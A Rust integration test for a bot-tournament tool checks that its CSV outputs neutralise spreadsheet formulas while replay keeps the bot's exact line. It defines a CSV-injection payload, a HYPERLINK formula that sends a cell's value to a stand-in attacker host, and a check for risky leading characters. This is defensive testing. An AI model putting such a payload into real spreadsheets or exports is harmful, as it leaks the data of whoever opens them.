//! Spreadsheet-safe CSV (issue 18): a bot that answers a formula (`=HYPERLINK(…)`) leaves no
//! live formula in any CSV juiz writes (transcripts, games.csv, faults.csv), and `juiz replay`
//! still shows the line exactly as the bot wrote it.

use crate::common;

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// Every cell of every CSV under `dir`: none would be a formula in a spreadsheet (a cell that
/// begins with `-` is a number, as juiz writes scores; a transcript's `dir` column writes `=` for
/// the result row, one fixed character that no spreadsheet evaluates to anything).
fn assert_no_formula(dir: &std::path::Path) -> usize {
    let mut cells = 0;
    for entry in walk(dir) {
        if entry.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_path(&entry).unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                if cell == "=" {
                    continue;
                }
                let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
                assert!(!risky, "{}: a live formula: {cell:?}", entry.display());
            }
        }
    }
    cells
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { out.extend(walk(&path)) } else { out.push(path) }
    }
    out
}

#[test]
fn a_formula_from_a_bot_is_neutralised_in_every_csv_and_replayed_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("t.json");
    let hostile = common::root().join("tests/fixtures/bot/formula.py");
    let good = common::root().join("bots/random_bot.py");
    std::fs::write(
        &file,
        format!(
            r#"{{"name": "f", "seed": 2, "games_per_pairing": 2, "bots": [
                {{"name": "formula", "command": "python3 {}"}}, {{"name": "good", "command": "python3 {}"}}]}}"#,
            hostile.display(),
            good.display()
        ),
    )
    .unwrap();
    let out = dir.path().join("out");
    let run = common::juiz().arg("tournament").arg(&file).arg("--out").arg(&out).output().unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(assert_no_formula(&out) > 0);

    let rows = juiz::tournament::read_games(&out.join("games.csv")).unwrap();
    assert!(rows.iter().all(|r| r.faulty_bot == "formula"), "{rows:?}");
    let log = out.join(&rows[0].log);
    let raw = std::fs::read_to_string(&log).unwrap();
    assert!(raw.contains(r#"'=HYPERLINK"#), "the transcript keeps the line, guarded: {raw}");
    // The reader takes the guard off: the line is the bot's, byte for byte.
    let transcript = juiz::record::Transcript::read(&log).unwrap();
    assert!(transcript.rows.iter().any(|r| r.text == FORMULA), "{:?}", transcript.rows);
    let replay = common::juiz().arg("replay").arg(&log).output().unwrap();
    assert!(String::from_utf8_lossy(&replay.stdout).contains(FORMULA));
}
